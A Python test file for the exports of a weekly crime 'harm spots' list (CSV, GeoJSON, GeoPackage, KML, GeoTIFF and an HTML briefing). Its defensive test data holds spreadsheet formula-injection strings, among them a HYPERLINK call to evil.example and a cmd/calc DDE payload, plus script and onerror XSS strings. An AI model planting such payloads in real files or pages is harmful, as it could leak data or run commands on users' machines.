"""Exports of the weekly harm-spot list: each format read back with the library that reads it."""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import re
import xml.etree.ElementTree as ET

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import rasterio
import shapely
from shapely import affinity
from hypothesis import given, settings
from hypothesis import strategies as st
from pyproj import CRS

from rtm import exports
from rtm.exports import (briefing_html, csv_bytes, excel_safe, excel_unsafe, geojson_bytes, geopackage_bytes,
                         geotiff_bytes, kml_bytes, read_csv_bytes, write_exports)
from rtm.grid import Grid

KML = "{http://www.opengis.net/kml/2.2}"
BNG = "EPSG:27700"
NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A2)", "\t=x", "\r=x",
         "a, b", 'say "hi"', "line1\nline2", "Café – Straße ✓ 東京", "'quoted", "NA", "None", "<script>alert(1)</script>"]

COLUMNS = ["rank", "spot_id", "district", "cells", "easting", "northing", "lat", "lon", "location",
           "harm_recent", "harm_year", "counts_by_type", "rrs", "factors_present", "score", "score_harm",
           "score_risk", "explanation", "conjunctive", "movement", "previous_rank", "weeks_on_list", "peak_times",
           "patrol_visits_per_day", "patrol_minutes"]


def cell(e, n, k=1):
    """``k`` 150 m cells side by side, lower-left corner at (e, n)."""
    return shapely.box(e, n, e + 150 * k, n + 150)


def make_spots(locations=("On or near Pier Hill", "On or near High Street", "On or near Marine Parade")):
    """Three spots in two Southend districts (one merged two-cell spot) in BNG."""
    geoms = [cell(588000, 186000, 2), cell(588600, 185700), shapely.MultiPolygon([cell(583800, 187050)])]
    frame = gpd.GeoDataFrame({
        "rank": [1, 2, 1],
        "spot_id": ["150m-E588000-N186000", "150m-E588600-N185700", "150m-E583800-N187050"],
        "district": ["Southend-on-Sea", "Southend-on-Sea", "Castle Point"],
        "cells": [2, 1, 1],
        "easting": [588150.0, 588675.0, 583875.0],
        "northing": [186075.0, 185775.0, 187125.0],
        "lat": [51.5404, 51.5375, 51.5510],
        "lon": [0.7118, 0.7193, 0.6510],
        "location": list(locations),
        "harm_recent": [365.0, 120.5, 30.25],
        "harm_year": [2400.0, 980.0, 1e-05],
        "counts_by_type": ["Violence and sexual offences 12; Public order 3", "Robbery 2", "Burglary 1"],
        "rrs": [3.2, np.nan, -1.5],
        "factors_present": ["pubs; bus stops", "", "shops"],
        "score": [0.91, 0.45, -0.1],
        "score_harm": [0.6, 0.3, 0.1],
        "score_risk": [0.31, 0.15, -0.2],
        "explanation": ["high recent harm", "steady harm", "near shops"],
        "conjunctive": [True, False, True],
        "movement": ["new", "up", "same"],
        "previous_rank": [np.nan, 4.0, 1.0],
        "weeks_on_list": [1, 3, 10],
        "peak_times": ["Fri-Sat 22:00-02:00", "not available (monthly data)", "Sun 12:00-16:00"],
        "patrol_visits_per_day": [3, 2, 1],
        "patrol_minutes": [15, 15, 10],
    }, geometry=geoms, crs=BNG)
    assert list(frame.columns[:-1]) == COLUMNS
    return frame


def make_provenance():
    return {"product": "Harm spots", "period": "2019-01-07 to 2019-01-13 (week)", "period_start": "2019-01-07",
            "period_end": "2019-01-14", "data_window": "2018-01-07 to 2019-01-13",
            "parameters": {"cell_size_m": 150, "top_n": 10, "weights": "CCHI"},
            "inputs": [{"file": "2019-01-essex-street.csv", "sha256": "ab" * 32, "rows": 123}],
            "software": "rtm-harmspots 0.1.0", "crs": BNG,
            "columns": {"harm_recent": "harm (CCHI days) in the 4 weeks before the period"}}


@pytest.fixture
def spots():
    return make_spots()


@pytest.fixture
def empty():
    return make_spots().iloc[:0]


@pytest.fixture
def prov():
    return make_provenance()


@pytest.fixture
def districts():
    return gpd.GeoDataFrame({"name": ["Basildon", "Castle Point", "Southend-on-Sea"]},
                            geometry=[shapely.box(568000, 186000, 576000, 192000), shapely.box(578000, 184000, 585000, 190000),
                                      shapely.box(585000, 184000, 593000, 189000)], crs=BNG)


def _csv_lines(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- CSV ----------------------------------------------------------------------------------
def test_csv_layout_and_round_trip(spots, prov):
    data = csv_bytes(spots, prov)
    assert data.startswith(b"\xef\xbb\xbf# product: Harm spots\r\n")
    rows = _csv_lines(data)
    n_prov = len(prov) + 1
    assert all(len(r) == 1 and r[0].startswith("# ") for r in rows[:n_prov])
    assert rows[n_prov] == COLUMNS  # header: no geometry column
    assert rows[5][0] == '# parameters: {"cell_size_m": 150, "top_n": 10, "weights": "CCHI"}'
    table = pd.read_csv(io.BytesIO(data), skiprows=n_prov, encoding="utf-8-sig")
    assert list(table.columns) == COLUMNS and len(table) == 3
    for col in ["rank", "cells", "weeks_on_list", "patrol_minutes"]:
        assert table[col].tolist() == spots[col].tolist()
    for col in ["easting", "harm_recent", "harm_year", "rrs", "score", "previous_rank", "lat"]:
        np.testing.assert_array_equal(table[col].to_numpy(), spots[col].to_numpy())  # exact, NaN in place
    assert table["conjunctive"].tolist() == [True, False, True]
    assert table["location"].tolist() == spots["location"].tolist()


def test_csv_numbers_stay_numbers(spots, prov):
    rows = _csv_lines(csv_bytes(spots, prov))
    header = rows[len(prov) + 1]
    last = dict(zip(header, rows[-1]))
    assert last["score"] == "-0.1" and last["rrs"] == "-1.5"  # negative numbers: no quote
    assert last["harm_year"] == "1e-05"
    assert dict(zip(header, rows[-2]))["rrs"] == ""  # NaN is an empty cell
    assert last["conjunctive"] == "TRUE"


def test_csv_is_deterministic(prov):
    assert csv_bytes(make_spots(), make_provenance()) == csv_bytes(make_spots(), prov)


def test_csv_neutralises_nasty_text(prov):
    nasty = NASTY[:3]
    frame = make_spots(nasty)
    frame["explanation"] = NASTY[3:6]
    frame["counts_by_type"] = NASTY[6:9]
    frame["factors_present"] = NASTY[9:12]
    frame["peak_times"] = NASTY[11:14]
    frame = frame.rename(columns={"movement": "=cmd|' /C calc'!A0"})
    bad_prov = {"product": "=1+1", "period": "-2+3", "note": "a,=HYPERLINK(1)\n@x", "@key": "v"}
    data = csv_bytes(frame, bad_prov)
    rows = _csv_lines(data)
    numbers = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
    for row in rows:
        for text in row:
            assert numbers.fullmatch(text) or not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), text
    assert rows[0] == ["# product: =1+1"] and rows[2] == ['# note: "a,=HYPERLINK(1)\\n@x"']
    assert rows[3] == ["# @key: v"]
    table, meta = read_csv_bytes(data)
    assert meta["period"] == "-2+3" and "csv_text_rule" in meta
    assert "=cmd|' /C calc'!A0" in table.columns
    assert table["location"].tolist() == nasty
    assert table["explanation"].tolist() == NASTY[3:6]
    assert table["counts_by_type"].tolist() == NASTY[6:9]
    assert table["factors_present"].tolist() == NASTY[9:12]
    assert table["peak_times"].tolist() == NASTY[11:14]  # "NA" and "None" stay text
    raw, _ = read_csv_bytes(data, restore_text=False)
    assert raw["location"].tolist() == ["'" + s for s in nasty]
    assert len(raw) == 3


_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)


@settings(max_examples=150, deadline=None)
@given(st.lists(_TEXT, min_size=1, max_size=4))
def test_csv_text_cells_never_start_dangerous(texts):
    frame = pd.DataFrame({"text": texts, "n": np.arange(len(texts)) - 2.5})
    data = csv_bytes(frame, {"product": texts[0]})
    rows = _csv_lines(data)
    body = rows[3:]
    assert len(body) == len(texts)
    for (text_cell, number_cell), original in zip(body, texts):
        assert not text_cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert excel_unsafe(text_cell) == original
        assert text_cell == excel_safe(original)
        float(number_cell)  # numbers, negative ones included, are left as numbers
    table = pd.read_csv(io.BytesIO(data), skiprows=2, encoding="utf-8-sig", dtype={"text": str},
                        keep_default_na=False)
    assert [excel_unsafe(t) for t in table["text"]] == texts


def test_csv_empty_list(empty, prov):
    data = csv_bytes(empty, prov)
    table, meta = read_csv_bytes(data)
    assert list(table.columns) == COLUMNS and len(table) == 0
    assert meta["product"] == "Harm spots"


# -- GeoJSON ------------------------------------------------------------------------------
def test_geojson_content(spots, prov):
    data = geojson_bytes(spots, prov)
    doc = json.loads(data)
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert doc["provenance"] == json.loads(json.dumps(prov))
    assert list(doc["provenance"]) == sorted(prov)
    assert len(doc["features"]) == 3
    first = doc["features"][0]
    assert list(first["properties"]) == COLUMNS
    assert first["properties"]["previous_rank"] is None and first["properties"]["conjunctive"] is True
    assert first["geometry"]["type"] == "Polygon" and doc["features"][2]["geometry"]["type"] == "MultiPolygon"
    ring = np.array(first["geometry"]["coordinates"][0])
    assert 0.70 < ring[:, 0].min() < 0.72 and 51.53 < ring[:, 1].min() < 51.55  # lon, lat order
    decimals = [len(t.split(".")[1]) for t in re.findall(r"\[ (-?\d+\.\d+), ", data.decode())]
    assert max(decimals) <= 7
    assert shapely.Polygon(ring).exterior.is_ccw  # RFC 7946 winding


def test_geojson_reads_back_and_is_deterministic(spots, prov, tmp_path):
    data = geojson_bytes(spots, prov)
    assert geojson_bytes(make_spots(), make_provenance()) == data
    path = tmp_path / "spots.geojson"
    path.write_bytes(data)
    back = gpd.read_file(path)
    assert back.crs.to_epsg() == 4326 and len(back) == 3
    assert back["location"].tolist() == spots["location"].tolist()
    assert back["rank"].tolist() == [1, 2, 1]
    np.testing.assert_allclose(back["harm_recent"], spots["harm_recent"])
    original = spots.to_crs(4326).geometry.values
    for a, b in zip(back.geometry.values, original):
        assert a.hausdorff_distance(b) < 1e-7  # rounding to 7 decimals only


def test_geojson_empty(empty, prov):
    doc = json.loads(geojson_bytes(empty, prov))
    assert doc["features"] == [] and doc["provenance"]["product"] == "Harm spots"


# -- GeoPackage ---------------------------------------------------------------------------
def test_geopackage_round_trip(spots, prov, tmp_path):
    path = tmp_path / "spots.gpkg"
    path.write_bytes(geopackage_bytes(spots, prov))
    layers = {name for name, _ in pyogrio.list_layers(path)}
    assert layers == {"harm_spots", "provenance"}
    info = pyogrio.read_info(path, layer="harm_spots")
    assert json.loads(info["layer_metadata"]["PROVENANCE"]) == json.loads(json.dumps(prov))
    assert info["geometry_type"] == "MultiPolygon" and CRS(info["crs"]) == CRS(BNG)
    back = pyogrio.read_dataframe(path, layer="harm_spots")
    assert list(back.columns[:-1]) == COLUMNS
    assert back["spot_id"].tolist() == spots["spot_id"].tolist()
    assert back["conjunctive"].tolist() == [True, False, True]
    for a, b in zip(back.geometry.values, spots.geometry.values):
        assert a.equals(b)
    table = pyogrio.read_dataframe(path, layer="provenance")
    assert dict(zip(table["key"], table["value"]))["period"] == prov["period"]


def test_geopackage_empty(empty, prov, tmp_path):
    path = tmp_path / "empty.gpkg"
    path.write_bytes(geopackage_bytes(empty, prov))
    back = pyogrio.read_dataframe(path, layer="harm_spots")
    assert len(back) == 0 and "location" in back.columns


# -- KML ----------------------------------------------------------------------------------
def _kml(data):
    return ET.fromstring(data)


def test_kml_structure(spots, prov):
    root = _kml(kml_bytes(spots, prov))
    doc = root.find(f"{KML}Document")
    assert doc.findtext(f"{KML}name") == "Harm spots 2019-01-07 to 2019-01-13 (week)"
    data = {d.get("name"): d.findtext(f"{KML}value") for d in doc.findall(f"{KML}ExtendedData/{KML}Data")}
    assert data["period_start"] == "2019-01-07" and json.loads(data["inputs"])[0]["rows"] == 123
    folders = doc.findall(f"{KML}Folder")
    assert [f.findtext(f"{KML}name") for f in folders] == ["Southend-on-Sea", "Castle Point"]
    marks = doc.findall(f".//{KML}Placemark")
    assert [m.findtext(f"{KML}name") for m in marks] == [
        "Southend-on-Sea #1 On or near Pier Hill", "Southend-on-Sea #2 On or near High Street",
        "Castle Point #1 On or near Marine Parade"]
    fields = {d.get("name"): d.findtext(f"{KML}value") for d in marks[1].findall(f"{KML}ExtendedData/{KML}Data")}
    assert list(fields) == COLUMNS and fields["rrs"] == "" and fields["harm_recent"] == "120.5"
    desc = marks[0].findtext(f"{KML}description")
    assert "Fri-Sat 22:00-02:00" in desc and "3 visits a day, 15 min each" in desc and "0.910" in desc
    coords = marks[0].findtext(f".//{KML}outerBoundaryIs/{KML}LinearRing/{KML}coordinates").split()
    lonlat = np.array([[float(v) for v in c.split(",")] for c in coords])
    assert lonlat.shape == (5, 2) and 0.70 < lonlat[0, 0] < 0.72 and 51.53 < lonlat[0, 1] < 51.55
    assert all(len(c.split(",")[0].split(".")[1]) == 7 for c in coords)
    expected = spots.to_crs(4326).geometry.values[0]
    assert shapely.Polygon(lonlat).hausdorff_distance(expected) < 1e-7
    assert shapely.Polygon(lonlat).exterior.is_ccw


def test_kml_escapes_user_text(prov):
    nasty = ["<script>alert(1)</script>", "A & B ]]> \x01 bell", 'quote " and \' apostrophe']
    frame = make_spots(nasty)
    frame.loc[0, "peak_times"] = "<b>bold</b>"
    data = kml_bytes(frame, {**prov, "note": "<x>&"})
    assert b"<script>" not in data and b"<b>bold" not in data
    root = _kml(data)
    marks = root.findall(f".//{KML}Placemark")
    assert marks[0].findtext(f"{KML}name") == "Southend-on-Sea #1 <script>alert(1)</script>"
    assert marks[1].findtext(f"{KML}name") == "Southend-on-Sea #2 A & B ]]> \ufffd bell"
    # descriptions are HTML: user text inside them is HTML-escaped once more
    assert "&lt;b&gt;bold&lt;/b&gt;" in marks[0].findtext(f"{KML}description")


def test_kml_empty_and_multipolygon(empty, prov):
    root = _kml(kml_bytes(empty, prov))
    assert root.findall(f".//{KML}Placemark") == []
    two = make_spots()
    two.loc[2, "geometry"] = shapely.MultiPolygon([cell(583800, 187050), cell(584400, 187050)])
    mark = _kml(kml_bytes(two, prov)).findall(f".//{KML}Placemark")[2]
    assert len(mark.findall(f"{KML}MultiGeometry/{KML}Polygon")) == 2


def test_kml_reads_in_gdal(spots, prov, tmp_path):
    path = tmp_path / "spots.kml"
    path.write_bytes(kml_bytes(spots, prov))
    layers = pyogrio.list_layers(path)
    total = sum(pyogrio.read_info(path, layer=name)["features"] for name, _ in layers)
    assert total == 3


# -- GeoTIFF ------------------------------------------------------------------------------
def make_grid():
    mask = np.ones((4, 5), bool)
    mask[0, 0] = False
    return Grid(150.0, 587700.0, 186600.0, 5, 4, CRS.from_epsg(27700), mask,
                np.where(mask, 0, -1).astype("int32"), ("Southend-on-Sea",))


def test_geotiff_bands_and_provenance(prov):
    grid = make_grid()
    harm = np.arange(20, dtype=float).reshape(4, 5)
    risk = np.full((4, 5), 1.5)
    risk[1, 1] = np.nan
    data = geotiff_bytes(grid, {"harm_surface": harm, "risk_terrain": risk, "score": harm / 19}, prov)
    with rasterio.MemoryFile(data) as mem, mem.open() as src:
        assert src.count == 3 and src.dtypes == ("float32",) * 3
        assert src.descriptions == ("harm_surface", "risk_terrain", "score")
        assert src.crs.to_epsg() == 27700 and src.transform == grid.transform
        assert math.isnan(src.nodata) and src.compression.name == "deflate"
        tags = src.tags()
        assert json.loads(tags["PROVENANCE"]) == json.loads(json.dumps(prov))
        assert tags["period_start"] == "2019-01-07"
        band = src.read(1)
        assert math.isnan(band[0, 0])  # outside the area
        np.testing.assert_array_equal(band[grid.mask], harm[grid.mask].astype("float32"))
        assert math.isnan(src.read(2)[1, 1])
        assert src.tags(3)["name"] == "score"


def test_geotiff_rejects_wrong_shape(prov):
    with pytest.raises(ValueError, match="shape"):
        geotiff_bytes(make_grid(), {"score": np.zeros((3, 3))}, prov)
    with pytest.raises(ValueError):
        geotiff_bytes(make_grid(), {}, prov)


# -- HTML briefing ------------------------------------------------------------------------
def _sections(page: str) -> list[str]:
    return re.findall(r'<section class="district">(.*?)</section>', page, flags=re.S)


def test_briefing_pages_maps_and_escaping(prov, districts):
    frame = make_spots(["<script>alert('x')</script>", "On or near High Street", "Fish & Chips"])
    page = briefing_html(frame, {**prov, "note": "<img src=x onerror=alert(1)>"}, districts).decode()
    sections = _sections(page)
    assert len(sections) == 3  # one per district, Basildon without spots
    assert "<h2>Basildon</h2>" in sections[0] and "No harm spots this period." in sections[0]
    assert sections[2].count("<tr>") == 3  # header + 2 spots
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page and "<script" not in page
    assert "&lt;img src=x" in page and "Fish &amp; Chips" in page
    assert "http" not in page.lower() and "<link" not in page
    assert "break-before:page" in page and "A4 landscape" in page
    pngs = re.findall(r'src="data:image/png;base64,([A-Za-z0-9+/=]+)"', page)
    assert len(pngs) == 2 and all(base64.b64decode(p).startswith(b"\x89PNG\r\n\x1a\n") for p in pngs)
    assert "Fri-Sat 22:00-02:00" in sections[2] and "3 visits a day, 15 min each" in sections[2]


def test_briefing_without_outlines_and_empty(spots, empty, prov, districts):
    page = briefing_html(spots, prov).decode()
    assert len(_sections(page)) == 2 and "<h2>Castle Point</h2>" in _sections(page)[0]
    page = briefing_html(empty, prov, districts.to_crs(4326)).decode()
    assert len(_sections(page)) == 3 and page.count("No harm spots this period.") == 3
    assert len(_sections(briefing_html(empty, prov).decode())) == 0


# -- all at once --------------------------------------------------------------------------
def test_write_exports(spots, prov, districts, tmp_path):
    grid = make_grid()
    paths = write_exports(spots, prov, tmp_path / "out", stem="harmspots_2019-01-07", grid=grid,
                          surfaces={"score": np.ones(grid.shape)}, districts=districts)
    assert {k: p.name for k, p in paths.items()} == {
        "csv": "harmspots_2019-01-07.csv", "geojson": "harmspots_2019-01-07.geojson",
        "gpkg": "harmspots_2019-01-07.gpkg", "kml": "harmspots_2019-01-07.kml",
        "briefing": "harmspots_2019-01-07_briefing.html", "tif": "harmspots_2019-01-07.tif"}
    assert all(p.stat().st_size > 0 for p in paths.values())
    assert paths["csv"].read_bytes() == csv_bytes(spots, prov)
    assert "tif" not in write_exports(spots.iloc[:0], prov, tmp_path / "e", stem="x")


# -- awkward but legal input -------------------------------------------------------------
def test_missing_text_and_utm_crs(prov, tmp_path):
    """Chicago-style list in UTM 16N with missing location text: every export still works."""
    frame = make_spots([None, np.nan, "W Madison St"])
    shift = affinity.translate
    frame = frame.set_geometry([shift(g, 448000 - 588000, 4636000 - 186000) for g in frame.geometry],
                               crs="EPSG:32616")
    kml = _kml(kml_bytes(frame, prov))
    names = [m.findtext(f"{KML}name") for m in kml.findall(f".//{KML}Placemark")]
    assert names == ["Southend-on-Sea #1", "Southend-on-Sea #2", "Castle Point #1 W Madison St"]
    table, _ = read_csv_bytes(csv_bytes(frame, prov))
    assert table["location"].isna().tolist() == [True, True, False]
    doc = json.loads(geojson_bytes(frame, prov))
    lon, lat = doc["features"][2]["geometry"]["coordinates"][0][0][0]
    assert -87.7 < lon < -87.5 and 41.8 < lat < 41.9  # Chicago
    assert doc["features"][0]["properties"]["location"] is None
    path = tmp_path / "c.gpkg"
    path.write_bytes(geopackage_bytes(frame, prov))
    assert CRS(pyogrio.read_info(path, layer="harm_spots")["crs"]) == CRS("EPSG:32616")
    page = briefing_html(frame, prov).decode()
    assert len(_sections(page)) == 2 and ">nan<" not in page


_XML_SAFE = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)


@settings(max_examples=60, deadline=None)
@given(_XML_SAFE, _XML_SAFE)
def test_kml_text_round_trips(location, key_text):
    frame = make_spots([location, "b", "c"])
    root = _kml(kml_bytes(frame, {"product": key_text}))
    mark = root.findall(f".//{KML}Placemark")[0]
    fields = {d.get("name"): d.findtext(f"{KML}value") for d in mark.findall(f"{KML}ExtendedData/{KML}Data")}
    assert (fields["location"] or "") == location
    doc_data = root.find(f"{KML}Document/{KML}ExtendedData/{KML}Data")
    assert (doc_data.findtext(f"{KML}value") or "") == exports._prov_value(key_text)
